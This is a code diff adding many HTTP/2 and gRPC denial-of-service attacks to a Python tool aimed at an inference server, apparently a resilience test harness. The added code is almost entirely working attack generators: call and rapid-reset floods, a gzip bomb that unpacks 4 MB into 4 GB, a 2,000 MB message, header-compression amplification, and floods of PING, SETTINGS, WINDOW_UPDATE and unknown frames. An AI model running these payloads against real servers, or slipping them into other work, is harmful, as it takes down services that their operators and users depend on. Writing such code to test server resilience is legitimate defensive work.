@@ -8,12 +8,35 @@ import struct
 import subprocess
 import sys
 import time
+import zlib
 from collections.abc import Callable, Iterator
 from pathlib import Path
 
-from .http2 import CONTINUATION, END_HEADERS, HEADERS, PREFACE, RST_STREAM, SETTINGS, call_headers, frame
+from .http2 import (
+    ACK,
+    CONTINUATION,
+    DATA,
+    END_HEADERS,
+    END_STREAM,
+    HEADERS,
+    MAX_FRAME,
+    PADDED,
+    PING,
+    PREFACE,
+    PRIORITY,
+    PUSH_PROMISE,
+    RST_STREAM,
+    SETTINGS,
+    WINDOW_UPDATE,
+    call_headers,
+    frame,
+    grpc_message,
+)
 
 METHOD = "inference.GRPCInferenceService/ModelInfer"
+LIVE = "inference.GRPCInferenceService/ServerLive"
+CHECK = "grpc.health.v1.Health/Check"
+ACKNOWLEDGED = frame(SETTINGS, ACK, 0, b"")
 CONNECTIONS = 2
 # As much as a socket takes at once without the attacker's own copying becoming the bound.
 CHUNK = 256 << 10
@@ -50,8 +73,136 @@ def endless_string() -> Iterator[bytes]:
         yield piece
 
 
+def calls(headers: bytes, body: bytes = b"", flags: int = END_HEADERS) -> Iterator[bytes]:
+    """A call with these headers after the other; the body is a DATA frame's, or nothing."""
+    stream = 1
+    while stream < 1 << 31:
+        burst = []
+        for _ in range(500):
+            burst.append(frame(HEADERS, flags, stream, headers) + (frame(DATA, END_STREAM, stream, body) if body else b""))
+            stream += 2
+        yield b"".join(burst)
+
+
+def flood(*frames: bytes, start: bytes = b"") -> Iterator[bytes]:
+    """The same frames for ever."""
+    if start:
+        yield start
+    burst = b"".join(frames)
+    burst *= max(CHUNK // len(burst), 1)
+    while True:
+        yield burst
+
+
+def call_flood() -> Iterator[bytes]:
+    """Calls of no method, faster than they are begun. The server's settings are not acknowledged, as in all attacks that do not say so."""
+    return calls(call_headers("x/y"))
+
+
+def acknowledged_call_flood() -> Iterator[bytes]:
+    yield ACKNOWLEDGED
+    yield from calls(call_headers("x/y"))
+
+
+def request_flood() -> Iterator[bytes]:
+    """Whole requests whose answers are not read."""
+    return calls(call_headers(LIVE), grpc_message(b""))
+
+
+def old_stream() -> Iterator[bytes]:
+    """Headers of a stream that is over."""
+    return flood(frame(HEADERS, END_HEADERS | END_STREAM, 1, b"\x82"), start=frame(HEADERS, END_HEADERS, 10001, call_headers(METHOD)))
+
+
+def old_stream_with_long_headers() -> Iterator[bytes]:
+    field = b"\0" + bytes([7]) + b"x-flood" + bytes([100]) + b"f" * 100
+    return flood(frame(HEADERS, END_HEADERS | END_STREAM, 1, field * (16000 // len(field))),
+                 start=frame(HEADERS, END_HEADERS, 10001, call_headers(METHOD)))
+
+
+def even_streams() -> Iterator[bytes]:
+    """Headers of streams that only a server may open."""
+    return flood(*(frame(HEADERS, END_HEADERS, stream, b"\x82") for stream in range(2, 2000, 2)))
+
+
+def endless_message() -> Iterator[bytes]:
+    """A message of 2,000 MB."""
+    return flood(frame(DATA, 0, 1, bytes(MAX_FRAME)),
+                 start=ACKNOWLEDGED + frame(HEADERS, END_HEADERS, 1, call_headers(CHECK))
+                 + frame(DATA, 0, 1, b"\0" + struct.pack(">I", 2_000_000_000)))
+
+
+def gzip_bomb() -> Iterator[bytes]:
+    """Calls with messages of 4 MB that unpack to 4 GB of zeros."""
+    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
+    packer.compress(bytes(1 << 20))
+    packer.flush(zlib.Z_FULL_FLUSH)
+    piece = packer.compress(bytes(16 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
+    packed = b"\x1f\x8b\x08\0\0\0\0\0\0\x03" + piece * 256
+    body = b"\1" + struct.pack(">I", len(packed)) + packed
+    headers = call_headers(METHOD) + b"\0" + bytes([13]) + b"grpc-encoding" + bytes([4]) + b"gzip"
+    yield ACKNOWLEDGED
+    for stream in range(1, 1 << 31, 2):
+        sent = [frame(DATA, 0, stream, body[start:start + MAX_FRAME]) for start in range(0, len(body), MAX_FRAME)]
+        yield frame(HEADERS, END_HEADERS, stream, headers) + b"".join(sent)
+
+
+def prefix_byte_by_byte() -> Iterator[bytes]:
+    """The size of a message, a byte in a frame, for stream after stream."""
+    yield ACKNOWLEDGED
+    for stream in range(1, 1 << 31, 2):
+        yield frame(HEADERS, END_HEADERS, stream, call_headers(CHECK)) + b"".join(
+            frame(DATA, 0, stream, bytes([byte])) for byte in b"\0\x01\0\0\x01" + bytes(1000))
+
+
+def empty_messages() -> Iterator[bytes]:
+    """Thousands of them in a frame."""
+    return flood(frame(DATA, 0, 1, bytes(16000)), start=ACKNOWLEDGED + frame(HEADERS, END_HEADERS, 1, call_headers(
+        "grpc.reflection.v1.ServerReflection/ServerReflectionInfo")))
+
+
+def indexed_headers() -> Iterator[bytes]:
+    """Calls whose 16 KB of headers say the longest field so far again and again, in a byte each."""
+    field = b"\x40" + bytes([7]) + b"x-flood" + bytes([100]) + b"f" * 100
+    yield ACKNOWLEDGED
+    yield from calls(call_headers("x/y") + field + b"\xbe" * 15000)
+
+
+def no_method() -> Iterator[bytes]:
+    """Calls that are over with headers that lack everything."""
+    yield ACKNOWLEDGED
+    yield from calls(b"\x83", flags=END_HEADERS | END_STREAM)
+
+
+def trailers_again() -> Iterator[bytes]:
+    trailers = frame(HEADERS, END_HEADERS | END_STREAM, 1, b"\x00\x01x\x01y")
+    return flood(trailers, start=ACKNOWLEDGED + frame(HEADERS, END_HEADERS, 1, call_headers(METHOD)))
+
+
+def on_an_open_call(*frames: bytes) -> Callable[[], Iterator[bytes]]:
+    return lambda: flood(*frames, start=ACKNOWLEDGED + frame(HEADERS, END_HEADERS, 1, call_headers(METHOD)))
+
+
+FLOODS = {
+    "pings": on_an_open_call(frame(PING, 0, 0, bytes(8))),
+    "settings": on_an_open_call(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535) * 100)),
+    "acknowledgements": on_an_open_call(ACKNOWLEDGED),
+    "priorities": on_an_open_call(frame(PRIORITY, 0, 1, bytes(5))),
+    "window updates": on_an_open_call(frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1))),
+    "empty data": on_an_open_call(frame(DATA, 0, 1, b"")),
+    "padded data": on_an_open_call(frame(DATA, PADDED, 1, b"\x0f" + bytes(15))),
+    "data of no stream": on_an_open_call(frame(DATA, 0, 4001, bytes(MAX_FRAME))),
+    "unknown frames": on_an_open_call(frame(0xfa, 0, 1, bytes(100))),
+    "long unknown frames": on_an_open_call(frame(0xfa, 0xff, 0, bytes(MAX_FRAME))),
+    "push promises": on_an_open_call(frame(PUSH_PROMISE, END_HEADERS, 1, bytes(5))),
+}
+
+
 ATTACKS: dict[str, Callable[[], Iterator[bytes]]] = {
-    attack.__name__.replace("_", " "): attack for attack in (continuation_flood, rapid_reset, endless_string)}
+    attack.__name__.replace("_", " "): attack for attack in (
+        continuation_flood, rapid_reset, endless_string, call_flood, acknowledged_call_flood, request_flood, old_stream,
+        old_stream_with_long_headers, even_streams, endless_message, gzip_bomb, prefix_byte_by_byte, empty_messages, indexed_headers,
+        no_method, trailers_again)} | FLOODS
 
 
 def connect(port: int, tls: bool) -> socket.socket:
